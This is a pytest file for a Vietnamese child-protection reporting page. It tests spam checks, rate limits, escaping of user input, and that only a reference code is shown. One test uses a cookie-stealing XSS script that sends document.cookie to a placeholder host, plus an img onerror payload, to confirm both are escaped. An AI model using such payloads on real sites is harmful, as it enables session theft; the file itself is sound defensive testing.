"""The public reporting page: no login, Vietnamese, spam-protected, rate-limited, reveals only a reference code."""

import re
import time

import pytest
from django.core.cache import cache

from treem.audit.models import AuditEvent
from treem.cases import spam
from treem.cases.models import Alert, AlertKind, Case, Source


@pytest.fixture(autouse=True)
def fresh_cache():
    cache.clear()
    yield
    cache.clear()


def form_data(commune, **extra):
    _question, token = spam.new_challenge(now=time.time() - 60)  # the form was shown a minute ago
    data = {"province": commune.province_id, "commune": commune.pk, "concern_types": ["neglect"],
            "narrative": "Hai cháu nhỏ ở nhà một mình đã ba ngày, không có gì ăn.", "place_detail": "Bản Nà Khum",
            "child_name": "bé Mai", "child_sex": "F", "child_age": "5", "started": token,
            "answer": str(_answer(token)), "website": ""}
    data.update(extra)
    return data


def _answer(token):
    from django.core import signing

    return signing.loads(token, salt=spam.SALT)["sum"]


def test_the_page_is_public_and_vietnamese(client):
    response = client.get("/cases/report/")
    page = response.content.decode()
    assert response.status_code == 200
    assert "Báo tin về trẻ em cần được bảo vệ" in page and "Tổng đài quốc gia bảo vệ trẻ em 111" in page
    assert re.search(r"Vui lòng trả lời: \d \+ \d = \?", page)
    assert 'class="hp"' in page and 'name="website"' in page


def test_a_report_creates_an_intake_and_reveals_only_its_reference(client, commune_x, worker_x):
    response = client.post("/cases/report/", form_data(commune_x))
    page = response.content.decode()
    case = Case.objects.get()
    assert response.status_code == 200 and case.reference in page
    assert "Cảm ơn bạn: tin báo đã được tiếp nhận" in page
    assert "Xã Bình Lư" not in page and "bé Mai" not in page and str(case.pk) not in page
    assert case.source == Source.PUBLIC and case.channel == "online" and case.recorded_by is None
    assert case.reporter_anonymous and case.children_description == "bé Mai, Nữ, 5 tuổi"
    assert not case.case_children.exists()  # the public cannot create register records
    assert Alert.objects.filter(recipient=worker_x, kind=AlertKind.NEW_REPORT, case=case).exists()


def test_a_script_in_a_public_report_is_stored_as_text_and_shown_escaped(client, commune_x, worker_x):
    evil = '<script>document.location="http://x/?"+document.cookie</script>Cháu bị đánh'
    client.post("/cases/report/", form_data(commune_x, narrative=evil, child_name="<img src=x onerror=alert(1)>"))
    case = Case.objects.get()
    assert case.narrative == evil
    client.force_login(worker_x)
    page = client.get(f"/cases/{case.pk}/").content.decode()
    assert "<script>document.location" not in page and "<img src=x" not in page
    assert "&lt;script&gt;document.location=&quot;http://x/?&quot;+document.cookie&lt;/script&gt;Cháu bị đánh" in page


def test_the_honeypot_pretends_success_and_stores_nothing(client, commune_x):
    response = client.post("/cases/report/", form_data(commune_x, website="http://spam.example"))
    assert response.status_code == 200 and "Cảm ơn bạn" in response.content.decode()
    assert not Case.objects.exists()
    assert AuditEvent.objects.filter(action="cases.public_report.spam").exists()


def test_a_form_sent_too_fast_is_refused(client, commune_x):
    _question, token = spam.new_challenge()  # shown just now
    response = client.post("/cases/report/", form_data(commune_x, started=token, answer=str(_answer(token))))
    assert response.status_code == 400 and not Case.objects.exists()
    assert "Vui lòng đọc lại biểu mẫu" in response.content.decode()


def test_a_wrong_answer_or_a_forged_token_is_refused(client, commune_x):
    data = form_data(commune_x)
    data["answer"] = str(int(data["answer"]) + 1)
    response = client.post("/cases/report/", data)
    assert response.status_code == 400 and "Câu trả lời chưa đúng" in response.content.decode()
    forged = form_data(commune_x, started="eyJzdW0iOjF9:forged")
    assert client.post("/cases/report/", forged).status_code == 400
    assert not Case.objects.exists()


def test_the_answer_must_be_given_and_the_commune_in_the_province(client, commune_x, an_giang):
    response = client.post("/cases/report/", form_data(commune_x, province=an_giang.pk))
    assert response.status_code == 400 and "Xã này không thuộc tỉnh đã chọn." in response.content.decode()
    assert not Case.objects.exists()


def test_reports_are_rate_limited_per_address(client, commune_x, settings):
    for _ in range(spam.RATE_LIMIT):
        assert client.post("/cases/report/", form_data(commune_x)).status_code == 200
    blocked = client.post("/cases/report/", form_data(commune_x))
    assert blocked.status_code == 429 and "Có quá nhiều tin báo" in blocked.content.decode()
    assert Case.objects.count() == spam.RATE_LIMIT
    other = client.post("/cases/report/", form_data(commune_x), REMOTE_ADDR="10.0.0.9")
    assert other.status_code == 200


def test_guessing_the_sum_is_rate_limited_too(client, commune_x, monkeypatch):
    monkeypatch.setattr(spam, "ATTEMPT_LIMIT", 3)
    for _ in range(3):
        assert client.post("/cases/report/", form_data(commune_x, answer="99")).status_code == 400
    assert client.post("/cases/report/", form_data(commune_x)).status_code == 429
    assert not Case.objects.exists()


def test_the_challenge_token_cannot_be_reused_after_it_expires():
    _question, token = spam.new_challenge(now=time.time() - 3 * 3600)
    assert spam.check(token, _answer(token)) == "expired"
    assert spam.check(token + "x", 1) == "wrong"
